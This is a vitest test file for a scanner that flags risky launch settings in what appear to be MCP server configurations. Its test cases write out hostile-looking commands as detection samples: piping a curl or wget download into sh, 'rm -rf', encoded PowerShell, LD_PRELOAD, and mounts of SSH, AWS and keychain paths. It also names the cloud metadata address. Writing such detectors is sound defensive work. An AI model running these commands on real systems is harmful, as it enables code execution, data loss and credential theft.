import { describe, expect, it } from 'vitest'
import { scanCommand } from '../../src/servers/launch/command-scan.ts'
import type { ServerConfig } from '../../src/types/index.ts'

const findingsIn = (config: ServerConfig): string[] =>
  scanCommand(config).map(({ severity, code, at }) => `${severity} ${code} ${at}`)
const run = (line: string, more: object = {}): ServerConfig => {
  const [command = '', ...args] = line.split(' ')
  return { command, args, ...more }
}
const shell = (script: string): ServerConfig => ({ command: '/bin/bash', args: ['-c', script] })

describe('a command line', () => {
  it.each<[string, ServerConfig, string[]]>([
    ['of a fixed package', run('npx -y @org/server@1.2.3'), []],
    ['of a fixed package, installed first', run('npx --package=@org/server@1.2.3 server'), []],
    ['of a fixed Python package', run('uvx --from server==1.2.3 server'), []],
    ['of a file', run('node ./server.js --port 3000'), []],
    ['of a container of a fixed version', run('docker run -i --rm ghcr.io/org/server:1.2.3'), []],
    ['of a container by its digest', run('docker run -i --rm org/server@sha256:0123'), []],
    ['of the newest package', run('npx -y @org/server'), ['warning unpinned-package args[1]']],
    ['of the latest package', run('npx -y server@latest'), ['warning unpinned-package args[1]']],
    ['of a package within a range', run('npx server@^1.2.3'), ['warning unpinned-package args[0]']],
    ['of the newest Python package', run('uvx server --verbose'), ['warning unpinned-package args[0]']],
    [
      'of a repository',
      run('uvx --from git+https://example.org/a/b b'),
      ['warning unpinned-package args[1]'],
    ],
    ['of the newest package by another runner', run('pnpm dlx server'), ['warning unpinned-package args[1]']],
    ['of the newest container', run('docker run -i org/server'), ['warning unpinned-image args[2]']],
    ['of the administrator', run('sudo node server.js'), ['danger sudo command']],
    [
      'of the administrator inside',
      shell('cd /x && sudo node server.js'),
      ['danger sudo command', 'warning shell command'],
    ],
    ['that deletes', shell('rm -rf ~/x; server'), ['danger deletes-files command', 'warning shell command']],
    [
      'that runs a download',
      shell('curl -fsSL https://x.example/i.sh | sh'),
      ['danger runs-a-download command', 'warning shell command'],
    ],
    [
      'that runs a download otherwise',
      shell('sh <(wget -qO- https://x.example)'),
      ['danger runs-a-download command', 'warning shell command'],
    ],
    ['that is encoded', run('powershell -enc SQBFAFgAIAAoAE4AZQB3'), ['danger encoded-command command']],
    [
      'that holds a program',
      { command: 'node', args: ['-e', 'server()'] },
      ['warning inline-program command'],
    ],
    ['in a folder for downloads', run('/home/me/Downloads/server'), ['warning temporary-program command']],
    ['about keys', run('server --key ~/.ssh/id_ed25519'), ['danger sensitive-path args[1]']],
    [
      'about the keychain',
      run('server /Users/me/Library/Keychains/login.keychain-db'),
      ['danger sensitive-path args[0]'],
    ],
    ['with a script for the shell of npx', run('npx -y -c id'), ['warning shell command']],
    [
      'with a script for the shell of npm',
      run('npm exec --package=a@1.0.0 --call=id'),
      ['warning shell command'],
    ],
    [
      'with a script and a package',
      run('npx -c id -p b'),
      ['warning shell command', 'warning unpinned-package args[3]'],
    ],
    ['with a version of Python', run('uvx -p 3.12 server==1.0.0'), []],
    ['with an option of its own that looks like it', run('npx server@1.0.0 -c settings.json'), []],
    ['with a second package', run('npx -p a@1.0.0 -p b@latest a'), ['warning unpinned-package args[3]']],
    ['with a package beside it', run('uvx --with b server==1.0.0'), ['warning unpinned-package args[1]']],
    ['about the whole disk', run('npx server@1.0.0 /'), ['warning wide-path args[1]']],
    [
      'with walls that are open',
      run('docker run --privileged -i a/b:1'),
      ['danger container-without-walls args[1]'],
    ],
    ['with the whole disk in a container', run('docker run -v /:/host a/b:1'), ['danger host-mount args[1]']],
    [
      'with the home in a container',
      run('docker run --mount type=bind,source=/home/me,target=/x a/b:1'),
      ['danger host-mount args[1]'],
    ],
    ['with a folder in a container', run('docker run -v ./data:/data a/b:1'), ['notice host-mount args[1]']],
    [
      'with keys in a container',
      run('docker run -v ~/.aws:/root/.aws:ro a/b:1'),
      ['danger sensitive-path args[1]'],
    ],
    [
      'with the service in a container',
      run('docker run -v /var/run/docker.sock:/x a/b:1'),
      ['danger container-without-walls args[1]'],
    ],
    [
      'with a secret',
      run('npx s@1.0.0', { env: { GITHUB_TOKEN: 'x', LANG: 'C' } }),
      ['notice gets-a-secret env.GITHUB_TOKEN'],
    ],
    [
      'of an unknown program with a secret',
      run('/opt/server', { env: { API_KEY: 'x' } }),
      ['warning gets-a-secret env.API_KEY'],
    ],
    [
      'with code beside it',
      run('node s.js', { env: { LD_PRELOAD: '/x.so' } }),
      ['danger loads-code env.LD_PRELOAD'],
    ],
    [
      'that trusts any certificate',
      run('node s.js', { env: { NODE_TLS_REJECT_UNAUTHORIZED: '0' } }),
      ['danger no-certificate-check env.NODE_TLS_REJECT_UNAUTHORIZED'],
    ],
    ['in a private folder', run('server', { cwd: '/home/me/.gnupg' }), ['danger sensitive-path cwd']],
    ['with characters that do not show', run('no\u200bde server.js'), ['danger hidden-characters command']],
  ])('%s', (_, config, findings) => {
    expect(findingsIn(config)).toEqual(findings)
  })
})

describe('an address', () => {
  it.each<[string, ServerConfig, string[]]>([
    ['by name and encrypted', { url: 'https://mcp.example.org/mcp' }, []],
    ['of this machine', { url: 'http://localhost:3000/mcp' }, []],
    ['of this machine by number', { url: 'http://127.0.0.1:3000/mcp' }, []],
    ['of this machine in the newer form', { url: 'http://[::1]:3000/mcp' }, []],
    ['unencrypted', { url: 'http://example.org/mcp' }, ['warning unencrypted url']],
    [
      'unencrypted with a secret',
      { url: 'http://example.org', headers: { Authorization: 'x' } },
      ['danger unencrypted url'],
    ],
    ['by number', { url: 'https://203.0.113.7/mcp' }, ['warning ip-address url']],
    ['of a cloud’s credentials', { url: 'https://169.254.169.254/mcp' }, ['danger link-local url']],
    ['that looks like another', { url: 'https://аpple.example/mcp' }, ['warning look-alike-host url']],
    ['with a password', { url: 'https://me:secret@example.org/' }, ['warning credentials-in-address url']],
    ['with a key', { url: 'https://example.org/mcp?api_key=x' }, ['notice credentials-in-address url']],
  ])('%s', (_, config, findings) => {
    expect(findingsIn(config)).toEqual(findings)
  })
})

it('never quotes a secret', () => {
  const secret = 'hunter2-hunter2'
  const findings = scanCommand({
    command: '/opt/server',
    args: ['--password', secret],
    env: { API_KEY: secret, AUTH: `Bearer ${secret}` },
  })
  expect(JSON.stringify(findings)).not.toContain(secret)
})
